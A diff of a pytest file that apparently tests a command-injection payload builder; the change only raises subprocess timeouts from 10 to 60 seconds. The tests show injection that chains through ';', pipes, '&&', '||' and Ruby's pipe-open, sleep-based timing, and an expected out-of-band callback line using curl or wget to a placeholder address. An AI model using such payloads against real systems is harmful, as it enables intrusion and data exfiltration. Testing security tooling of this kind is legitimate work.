@@ -28,7 +28,7 @@ NUMBERS = Numbers("ab", 12, 34, "cd")
 @pytest.mark.parametrize(("way", "before"), [(SEQUENCE, "true"), (PIPE, "true"), (AND, "true"), (OR, "false")])
 def test_one_payload_serves_three_contexts_and_waits_once(way, before, command):
     script = 'sleep() { echo "slept $1" >&2; }\n' + command.format(before).replace("@", fill(way, "tea", NUMBERS, 2))
-    done = subprocess.run(["/bin/sh", "-c", script], capture_output=True, text=True, check=False, timeout=10)
+    done = subprocess.run(["/bin/sh", "-c", script], capture_output=True, text=True, check=False, timeout=60)
     if way is not OR:  # behind || only the first that works is run
         assert done.stderr.count("slept 2") == 1
     assert expected(way, NUMBERS) == "ab408cd"
@@ -37,7 +37,7 @@ def test_one_payload_serves_three_contexts_and_waits_once(way, before, command):
 
 def test_a_tame_task_is_not_computed():
     payload = fill(SEQUENCE, "tea", NUMBERS, 0, tame=True)
-    done = subprocess.run(["/bin/sh", "-c", "true " + payload], capture_output=True, text=True, check=False, timeout=10)
+    done = subprocess.run(["/bin/sh", "-c", "true " + payload], capture_output=True, text=True, check=False, timeout=60)
     assert "12*34" in done.stdout
     assert "408" not in done.stdout
 
@@ -56,7 +56,7 @@ def test_an_address_is_asked_for_once_with_the_product_behind_it(command, missin
         ["/bin/sh", "-c", tools + command.replace("{}", payload) + "\nwait"],
         capture_output=True,
         check=False,
-        timeout=10,
+        timeout=60,
     )
     (line,) = called.read_text().splitlines()
     asked = {"": "curl -sm5 http://192.0.2.1/name/408", "curl": "wget -qT5 -O- http://192.0.2.1/name/408"}
@@ -82,5 +82,5 @@ def test_what_stands_behind_a_pipe_is_a_whole_command():
     """As Ruby's open hands it to a shell: all behind the first sign."""
     command = fill(OPENED, "notes.txt", NUMBERS, 0)
     assert command.startswith("|")
-    done = subprocess.run(["/bin/sh", "-c", command[1:]], capture_output=True, text=True, check=True, timeout=10)
+    done = subprocess.run(["/bin/sh", "-c", command[1:]], capture_output=True, text=True, check=True, timeout=60)
     assert done.stdout == "ab408cd\n"
